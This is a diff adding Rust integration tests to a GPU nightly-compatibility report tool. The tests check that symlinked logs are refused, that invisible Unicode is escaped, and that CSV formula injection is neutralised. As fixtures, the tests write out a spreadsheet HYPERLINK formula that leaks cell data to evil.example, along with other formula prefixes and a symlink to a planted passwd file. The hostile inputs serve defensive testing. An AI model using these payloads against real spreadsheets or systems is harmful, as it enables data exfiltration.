@@ -637,18 +637,25 @@ fn report_pivots_other_axes_and_rejects_unknown_ones() {
         "{md}"
     );
 
-    let output = report(&[&tonight_dir], &out, &["--rows", "nope"]);
-    assert_eq!(output.status.code(), Some(2));
-    let stderr = String::from_utf8_lossy(&output.stderr);
-    assert!(stderr.contains("`--rows nope`: no such axis"), "{stderr}");
-    assert!(stderr.contains("flashinfer, gpu, model"), "{stderr}");
-
-    let output = report(&[&tonight_dir], &out, &["--rows", "gpu", "--cols", "gpu"]);
-    assert_eq!(output.status.code(), Some(2));
-
-    let output = report(&[&sandbox.path().join("runs")], &out, &[]);
-    assert_eq!(output.status.code(), Some(2));
-    assert!(String::from_utf8_lossy(&output.stderr).contains("is not a run folder"));
+    // Bad input: exit 2 with a message that says what.
+    let runs = sandbox.path().join("runs");
+    let cases: [(&Path, &[&str], &[&str]); 3] = [
+        (
+            &tonight_dir,
+            &["--rows", "nope"],
+            &["`--rows nope`: no such axis", "flashinfer, gpu, model"],
+        ),
+        (&tonight_dir, &["--rows", "gpu", "--cols", "gpu"], &[]),
+        (&runs, &[], &["is not a run folder"]),
+    ];
+    for (run, args, messages) in cases {
+        let output = report(&[run], &out, args);
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
+        for message in messages {
+            assert!(stderr.contains(message), "{args:?}: {stderr}");
+        }
+    }
 }
 
 #[test]
@@ -719,14 +726,18 @@ fn compare_classifies_cells_and_exits_1_on_regressions() {
             .unwrap()
             .to_owned()
     };
-    assert_eq!(line(&id("0.6.11.post1", "sm_90", QWEN)), "regressed");
-    assert_eq!(line(&id("0.6.11.post1", MIXED, QWEN)), "fixed");
-    assert_eq!(line(&id("0.6.3", MIXED, QWEN)), "still_failing_same");
-    assert_eq!(line(&id("0.6.3", "sm_90", NEXT)), "newly_flaky");
-    assert_eq!(line(&id("0.6.11.post1", "sm_90", NEXT)), "spurious");
-    assert_eq!(line(&id("0.6.11.post1", MIXED, NEXT)), "still_failing_same");
-    assert_eq!(line(&id("0.6.3", MIXED, NEXT)), "skipped");
-    assert_eq!(line(&id("0.6.8.post1", "sm_90", QWEN)), "removed");
+    for (cell, expected) in [
+        (id("0.6.11.post1", "sm_90", QWEN), "regressed"),
+        (id("0.6.11.post1", MIXED, QWEN), "fixed"),
+        (id("0.6.3", MIXED, QWEN), "still_failing_same"),
+        (id("0.6.3", "sm_90", NEXT), "newly_flaky"),
+        (id("0.6.11.post1", "sm_90", NEXT), "spurious"),
+        (id("0.6.11.post1", MIXED, NEXT), "still_failing_same"),
+        (id("0.6.3", MIXED, NEXT), "skipped"),
+        (id("0.6.8.post1", "sm_90", QWEN), "removed"),
+    ] {
+        assert_eq!(line(&cell), expected, "{cell}");
+    }
     assert!(
         !table.contains(&format!("{} ", id("0.6.3", "sm_90", QWEN))),
         "passing cells are not listed"
@@ -952,4 +963,247 @@ fn copy_dir(from: &Path, to: &Path) {
             std::fs::copy(entry.path(), &target).expect("copy file");
         }
     }
+}
+
+/// Every file under `dir`, recursively, as text.
+fn all_text(dir: &Path) -> Vec<(PathBuf, String)> {
+    let mut out = Vec::new();
+    for entry in std::fs::read_dir(dir).expect("read folder") {
+        let path = entry.expect("folder entry").path();
+        if path.is_dir() {
+            out.extend(all_text(&path));
+        } else {
+            let bytes = std::fs::read(&path).expect("read file");
+            out.push((path, String::from_utf8_lossy(&bytes).into_owned()));
+        }
+    }
+    out
+}
+
+const SECRET: &str = "root:x:0:0:planted secret outside the run folder";
+
+/// A symbolic link planted in a run folder's `logs/` (to a file, or `logs/` itself to another
+/// folder) is never read: nothing of its target reaches the report, the cell page and stderr
+/// say which file was refused, and the rest of the report is written.
+#[test]
+fn report_never_reads_a_log_through_a_symbolic_link() {
+    let regressed = id("0.6.11.post1", "sm_90", QWEN);
+    let log = format!("logs/{regressed}.log");
+    // (what is planted, where the report goes: beside or in the run folder)
+    let cases: [(&str, bool); 4] = [
+        ("file", false),
+        ("file", true),
+        ("folder", false),
+        ("folder", true),
+    ];
+    for (planted, in_place) in cases {
+        let (sandbox, _last, tonight_dir) = nightlies();
+        let outside = sandbox.path().join("outside");
+        std::fs::create_dir_all(&outside).unwrap();
+        std::fs::write(outside.join("passwd"), format!("{SECRET}\n")).unwrap();
+        let refused = match planted {
+            "file" => {
+                std::fs::remove_file(tonight_dir.join(&log)).unwrap();
+                std::os::unix::fs::symlink(outside.join("passwd"), tonight_dir.join(&log)).unwrap();
+                log.clone()
+            }
+            _ => {
+                std::fs::rename(tonight_dir.join("logs"), outside.join("logs")).unwrap();
+                std::fs::copy(
+                    outside.join("passwd"),
+                    outside.join("logs").join(format!("{regressed}.log")),
+                )
+                .unwrap();
+                std::os::unix::fs::symlink(outside.join("logs"), tonight_dir.join("logs")).unwrap();
+                "logs".to_owned()
+            }
+        };
+        let out = if in_place {
+            tonight_dir.clone()
+        } else {
+            sandbox.path().join("report")
+        };
+        let output = report(&[&tonight_dir], &out, &[]);
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        let case = format!("{planted} link, in place: {in_place}");
+        assert_eq!(output.status.code(), Some(0), "{case}: {stderr}");
+        assert!(
+            stderr.contains(&format!(
+                "warning: cell `{regressed}`: log not read: `{refused}` is a symbolic link"
+            )),
+            "{case}: {stderr}"
+        );
+        let report_files = all_text(&out);
+        for (path, text) in &report_files {
+            if path.starts_with(out.join("logs")) && in_place {
+                continue; // the run's own (planted) folder, not written by the report
+            }
+            assert!(
+                !text.contains(SECRET),
+                "{case}: {} has the secret",
+                path.display()
+            );
+        }
+        let page = read(&out.join(format!("cells/{regressed}.html")));
+        assert!(
+            page.contains(&format!("Log not read: `{refused}` is a symbolic link.")),
+            "{case}: {page}"
+        );
+        assert!(
+            !page.contains(&format!("href=\"../{log}\"")),
+            "{case}: {page}"
+        );
+        // The rest of the report is whole.
+        assert!(out.join("index.html").is_file(), "{case}");
+        assert_eq!(
+            std::fs::read_dir(out.join("cells")).unwrap().count(),
+            tonight().len(),
+            "{case}"
+        );
+        if planted == "file" && !in_place {
+            let other = format!("logs/{}.log", id("0.6.3", "sm_90", QWEN));
+            assert!(
+                read(&out.join(&other)).contains("ok"),
+                "{case}: {other} not copied"
+            );
+        }
+    }
+}
+
+/// A formula in a matrix value and in a fingerprint, for a spreadsheet to run.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";
+/// Right-to-left override, zero-width space, an isolate, BEL and a C1 control.
+const INVISIBLE: &str = "\u{202e}\u{200b}\u{2066}\u{7}\u{85}";
+
+/// Tonight's run plus a cell whose value, id, reason, fingerprint and log carry formulas and
+/// invisible characters; returns (sandbox, last night, tonight, the hostile cell's id).
+fn nightlies_with_invisible_text() -> (Sandbox, PathBuf, PathBuf, String) {
+    let (sandbox, last, tonight_dir) = nightlies();
+    let mut records = tonight();
+    let mut r = rec(
+        "0.6.3",
+        "sm_90",
+        FORMULA,
+        Status::Fail,
+        Some(Signature::Oom),
+    );
+    r.id = format!("rtl{INVISIBLE}cell");
+    r.log = "logs/rtl.log".to_owned();
+    r.line = Some(2);
+    r.reason = Some(format!("reason{INVISIBLE}end"));
+    r.fingerprint = Some(format!("-2+3 {INVISIBLE}"));
+    r.values
+        .insert("note".into(), json!(format!("@SUM(1){INVISIBLE}")));
+    records.push(r.clone());
+    write_run(&tonight_dir, "2026-11-21T02:00:00Z", &records);
+    std::fs::write(
+        tonight_dir.join("logs/rtl.log"),
+        format!("start\nCUDA out of memory {INVISIBLE} gpj.exe\nend\n"),
+    )
+    .expect("write fixture");
+    (sandbox, last, tonight_dir, r.id)
+}
+
+/// Invisible characters from logs, values and ids are shown as `\u{...}` in every output, and
+/// CSV cells that a spreadsheet would run as formulas are text; compat.json keeps the data.
+#[test]
+fn outputs_show_invisible_characters_and_neutralise_formulas() {
+    let (sandbox, last, tonight_dir, hostile) = nightlies_with_invisible_text();
+    let out = sandbox.path().join("report");
+    let output = report(&[&last, &tonight_dir], &out, &[]);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(0), "{stderr}");
+    let invisible = |text: &str| {
+        text.chars().find(|c| {
+            (c.is_control() && !matches!(c, '\n' | '\t' | '\r')) || INVISIBLE.contains(*c)
+        })
+    };
+    let ctx = build_context(
+        &[last.clone(), tonight_dir.clone()],
+        &out,
+        &ReportOptions::default(),
+    )
+    .unwrap();
+    let page = ctx
+        .cells
+        .iter()
+        .find(|c| c.id == hostile)
+        .unwrap()
+        .page
+        .clone();
+    // (output, text that shows the override)
+    let shown: [(&str, &str); 5] = [
+        ("index.html", r"rtl\u{202e}\u{200b}\u{2066}\u{7}\u{85}cell"),
+        (
+            &page,
+            r"CUDA out of memory \u{202e}\u{200b}\u{2066}\u{7}\u{85} gpj.exe",
+        ),
+        (
+            "compat.md",
+            r"rtl\\u\{202e\}\\u\{200b\}\\u\{2066\}\\u\{7\}\\u\{85\}cell",
+        ),
+        (
+            "compat.csv",
+            r"reason\u{202e}\u{200b}\u{2066}\u{7}\u{85}end",
+        ),
+        ("junit.xml", r"rtl\u{202e}\u{200b}\u{2066}\u{7}\u{85}cell"),
+    ];
+    for (file, expected) in shown {
+        let text = read(&out.join(file));
+        assert_eq!(
+            invisible(&text),
+            None,
+            "{file} carries an invisible character"
+        );
+        assert!(text.contains(expected), "{file} lacks {expected}:\n{text}");
+    }
+    for (path, text) in all_text(&out.join("plots")) {
+        assert_eq!(invisible(&text), None, "{}", path.display());
+    }
+
+    // CSV: formulas are text; the same cells in compat.json are the data as recorded.
+    let mut csv = csv::Reader::from_path(out.join("compat.csv")).unwrap();
+    let header = csv.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let row = csv
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r[0].starts_with("rtl"))
+        .expect("the hostile row");
+    for (name, expected) in [
+        ("model", format!("'{FORMULA}")),
+        (
+            "note",
+            r"'@SUM(1)\u{202e}\u{200b}\u{2066}\u{7}\u{85}".to_owned(),
+        ),
+        (
+            "fingerprint",
+            r"'-2+3 \u{202e}\u{200b}\u{2066}\u{7}\u{85}".to_owned(),
+        ),
+        ("duration_s", "61.5".to_owned()),
+    ] {
+        assert_eq!(row[column(name)], expected, "csv column {name}");
+    }
+    let json: Value = serde_json::from_str(&read(&out.join("compat.json"))).unwrap();
+    let cell = json["cells"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["id"] == hostile.as_str())
+        .expect("the hostile cell in compat.json");
+    assert_eq!(cell["values"][2]["value"], FORMULA, "{cell}");
+    assert_eq!(cell["reason"], format!("reason{INVISIBLE}end"));
+
+    // The terminal: compare's table and Markdown, report's warnings.
+    for format in ["table", "md"] {
+        let (_, text) = compare(&last, &tonight_dir, format);
+        assert_eq!(invisible(&text), None, "compare --format {format}");
+        assert!(text.contains("202e"), "compare --format {format}:\n{text}");
+    }
+    std::fs::remove_file(tonight_dir.join("logs/rtl.log")).unwrap();
+    std::os::unix::fs::symlink("/etc/hostname", tonight_dir.join("logs/rtl.log")).unwrap();
+    let output = report(&[&last, &tonight_dir], &out, &[]);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(invisible(&stderr), None, "{stderr}");
+    assert!(stderr.contains(r"cell `rtl\u{202e}"), "{stderr}");
 }
